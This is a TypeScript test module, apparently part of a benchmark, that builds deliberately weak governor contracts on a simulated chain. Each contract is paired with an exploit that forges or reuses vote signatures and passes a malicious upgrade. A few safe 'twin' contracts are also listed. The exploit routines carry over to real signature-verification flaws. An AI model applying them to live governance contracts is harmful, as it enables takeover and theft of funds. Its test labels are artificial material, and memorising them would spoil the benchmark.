/** Governors that count votes which their holder has not cast. */
import { concatHex, encodeAbiParameters, type Hex, keccak256, pad, parseSignature, stringToHex } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import { type Built, type Chain, callData } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { LESS_THAN_HALF, proposal, tokenFor } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'

/** The holder of all votes, which is not the attacker; what it signs is public. */
const holderOf = (chain: Pick<Attack, 'hidden'>) => chain.hidden(1)
const ALL = 10n ** 24n

async function tokenOfHolder(chain: Chain): Promise<Hex> {
  const holder = holderOf(chain).address
  const token = await chain.deploy('CheckpointToken', holder)
  await chain.send(token, 'delegate(address)', [holder], holder)
  return token
}
const built =
  (name: string, tokenOf = tokenOfHolder): Case['build'] =>
  async (chain) => {
    const token = await tokenOf(chain)
    return controlledBy(chain, await chain.deploy(name, token, chain.hidden().address))
  }

type Ballot = { readonly id: Hex; readonly governor: Hex; readonly holder: Hex; readonly system: Built }
/** Proposes the upgrade, casts votes and executes it. */
const passed =
  (cast: (attack: Attack, ballot: Ballot) => Promise<void>): Case['exploit'] =>
  async (attack, system: Built) => {
    const [governor, target] = [part(system, 'controller'), part(system, 'admin')]
    const data = upgradeCall(system.address, attack.code)
    await attack.send(governor, 'propose(address,bytes)', [target, data])
    await attack.mine()
    await cast(attack, { id: proposal(target, data), governor, holder: holderOf(attack).address, system })
    await attack.wait(700_000)
    await attack.send(governor, 'execute(address,bytes)', [target, data])
  }

const WORDS = 'address,uint8,bytes32,bytes32'
const NOTHING = [0, pad('0x'), pad('0x')] as const
const digestOf = ({ id, governor }: Ballot, support: boolean): Hex =>
  keccak256(
    concatHex([
      '0x1901',
      keccak256(pad(governor)),
      keccak256(encodeAbiParameters([{ type: 'bytes32' }, { type: 'bool' }], [id, support])),
    ]),
  )
const signed = async (by: ReturnType<Attack['hidden']>, hash: Hex): Promise<readonly [number, Hex, Hex]> => {
  const { v, r, s } = parseSignature(await by.sign({ hash }))
  return [Number(v), r, s]
}
const HELLO = keccak256(stringToHex('hello'))

const unsigned = passed((attack, { id, governor, holder }) =>
  attack.send(governor, `voteFor(bytes32,bool,${WORDS})`, [id, true, holder, ...NOTHING]),
)
const bare = passed((attack, { id, governor, holder }) =>
  attack.send(governor, 'voteFor(bytes32,bool,address)', [id, true, holder]),
)
/** The attacker signs the vote of the holder. */
const bySigner = passed(async (attack, ballot) => {
  const signature = await signed(attack.account, digestOf(ballot, true))
  await attack.send(ballot.governor, `voteFor(bytes32,bool,${WORDS})`, [ballot.id, true, ballot.holder, ...signature])
})
/** The holder has signed something else. */
const reused = (
  hashOf: (ballot: Ballot) => Hex,
  more = '',
  args: (ballot: Ballot) => readonly unknown[] = () => [],
): Case['exploit'] =>
  passed(async (attack, ballot) => {
    const { id, governor, holder } = ballot
    const signature = await signed(holderOf(attack), hashOf(ballot))
    const words = `address,${more}uint8,bytes32,bytes32`
    await attack.send(governor, `voteFor(bytes32,bool,${words})`, [id, true, holder, ...args(ballot), ...signature])
  })

const attacks: readonly Omit<Case, 'cause' | 'truth'>[] = [
  {
    name: 'one key casts the votes of every holder without a signature',
    by: 'one key',
    build: built('KeyCastsBallots'),
    exploit: unsigned,
  },
  {
    name: 'a signature of one key casts the votes of every holder',
    by: 'one key',
    build: built('KeySignsBallots'),
    exploit: bySigner,
  },
  {
    name: 'every signature casts the votes of every holder',
    by: 'anyone',
    build: built('AnySignerBallots'),
    exploit: bySigner,
  },
  {
    name: 'a vote is cast by a signature of something else',
    by: 'anyone',
    build: built('GreetingBallots'),
    exploit: reused(({ holder }) => keccak256(pad(holder))),
  },
  {
    name: 'the caller chooses what a signed vote is counted for',
    by: 'anyone',
    build: built('ChoiceBallots'),
    exploit: reused(({ id }) => keccak256(id)),
  },
  {
    name: 'an argument that was not signed turns a vote around',
    by: 'anyone',
    build: built('FlaggedBallots'),
    exploit: reused(
      (ballot) => digestOf(ballot, false),
      'bool,',
      () => [false],
    ),
  },
  {
    name: 'the caller passes the hash that a holder has signed',
    by: 'anyone',
    build: built('DigestBallots'),
    exploit: reused(
      () => HELLO,
      'bytes32,',
      () => [HELLO],
    ),
  },
  {
    name: 'one key sets who signs for a holder',
    by: 'one key',
    build: built('SignerTableBallots'),
    exploit: passed(async (attack, ballot) => {
      await attack.send(ballot.governor, 'setSigner(address,address)', [ballot.holder, attack.account.address])
      const signature = await signed(attack.account, digestOf(ballot, true))
      await attack.send(ballot.governor, `voteFor(bytes32,bool,${WORDS})`, [
        ballot.id,
        true,
        ballot.holder,
        ...signature,
      ])
    }),
  },
  {
    name: 'one key sets who votes for a holder',
    by: 'one key',
    build: built('AgentBallots'),
    exploit: passed(async (attack, { id, governor, holder }) => {
      await attack.send(governor, 'setAgent(address,address)', [holder, attack.account.address])
      await attack.send(governor, 'voteFor(bytes32,bool,address)', [id, true, holder])
    }),
  },
  {
    name: 'another contract than the holder accepts its signature',
    by: 'anyone',
    build: built('OtherJudgeBallots'),
    exploit: passed(async (attack, { id, governor, holder }) => {
      const judge = await attack.deploy('Yes')
      await attack.send(governor, 'voteFor(bytes32,bool,address,address,bytes)', [id, true, holder, judge, '0x'])
    }),
  },
  {
    name: 'a holder without code accepts a signature by its silence',
    by: 'anyone',
    build: built('SilentBallots'),
    exploit: bare,
  },
  {
    name: 'a contract with votes has accepted a signature of something else',
    by: 'anyone',
    build: async (chain) => {
      const [token, greeter] = [await tokenOfHolder(chain), await chain.deploy('Greeter')]
      await chain.send(token, 'transfer(address,uint96)', [greeter, ALL], holderOf(chain).address)
      await chain.send(greeter, 'take(address)', [token])
      return controlledBy(chain, await chain.deploy('AskedBallots', token, chain.hidden().address), { greeter })
    },
    exploit: passed((attack, { id, governor, system }) =>
      attack.send(governor, 'voteFor(bytes32,bool,address,bytes32)', [id, true, part(system, 'greeter'), HELLO]),
    ),
  },
  {
    name: 'one key forwards votes of others',
    by: 'one key',
    build: built('ForwardedBallots'),
    exploit: passed(async (attack, { id, governor, holder }) => {
      await attack.sendRaw(governor, concatHex([callData('voteFor(bytes32,bool)', [id, true]), holder]))
    }),
  },
  {
    name: 'a vote needs no signature where none is passed',
    by: 'anyone',
    build: built('OptionalBallots'),
    exploit: unsigned,
  },
  {
    name: 'the first of several holders has signed',
    by: 'anyone',
    build: built('ManyBallots'),
    exploit: passed(async (attack, ballot) => {
      const signature = await signed(attack.account, digestOf(ballot, true))
      const holders = [attack.account.address, ballot.holder]
      const words = 'address[],uint8,bytes32,bytes32'
      await attack.send(ballot.governor, `voteFor(bytes32,bool,${words})`, [ballot.id, true, holders, ...signature])
    }),
  },
  {
    name: 'another account takes the place of the one that signed',
    by: 'anyone',
    build: built('ReplacedBallots'),
    exploit: passed(async (attack, ballot) => {
      const signature = await signed(attack.account, digestOf(ballot, true))
      const args = [ballot.id, true, attack.account.address, ballot.holder, ...signature]
      await attack.send(ballot.governor, 'voteFor(bytes32,bool,address,address,uint8,bytes32,bytes32)', args)
    }),
  },
  {
    name: 'every caller records that another account has voted',
    by: 'one key',
    build: built('MarkedBallots', tokenFor('CheckpointToken', LESS_THAN_HALF)),
    exploit: passed(async (attack, { id, governor }) => {
      await attack.send(governor, 'mark(bytes32,address)', [id, await attack.chain.council()])
      await attack.send(governor, 'vote(bytes32,bool)', [id, true])
    }),
  },
  {
    name: 'the second of two signatures is one of a key',
    by: 'one key',
    build: built('SecondSignerBallots'),
    exploit: passed(async (attack, ballot) => {
      const [v, r, s] = await signed(attack.account, digestOf(ballot, true))
      const words = 'address,uint8[2],bytes32[2],bytes32[2]'
      const args = [ballot.id, true, ballot.holder, [v, v], [r, r], [s, s]]
      await attack.send(ballot.governor, `voteFor(bytes32,bool,${words})`, args)
    }),
  },
  {
    name: 'a holder votes again by a number with other upper bits',
    by: 'one key',
    build: built('WideBallots', tokenFor()),
    exploit: passed(async (attack, ballot) => {
      const signature = await signed(attack.account, digestOf(ballot, true))
      for (let n = 0n; n < 6n; n += 1n) {
        const voter = BigInt(attack.account.address) + (n << 160n)
        const words = 'uint256,uint8,bytes32,bytes32'
        await attack.send(ballot.governor, `voteFor(bytes32,bool,${words})`, [ballot.id, true, voter, ...signature])
      }
    }),
  },
]

export const castVotes: readonly Case[] = attacks.map((draft) => ({ ...draft, cause: 'lying getter', truth: WEAK }))

const twin = (name: string, contract: string, twinOf: string): Twin => ({
  name,
  cause: 'lying getter',
  twinOf,
  deserves: 'multisig',
  build: built(contract),
})
export const castVoteTwins: readonly Twin[] = [
  twin(
    'votes that are cast by the account of a signature',
    'SignedBallots',
    'every signature casts the votes of every holder',
  ),
  twin(
    'votes that are cast by an account that signed, whom the caller names',
    'NamedBallots',
    'one key casts the votes of every holder without a signature',
  ),
  twin('votes that are cast by the caller or by a signature', 'EitherBallots', 'one key sets who signs for a holder'),
  twin(
    'votes of contracts that accept a signature',
    'AnsweredBallots',
    'a holder without code accepts a signature by its silence',
  ),
]
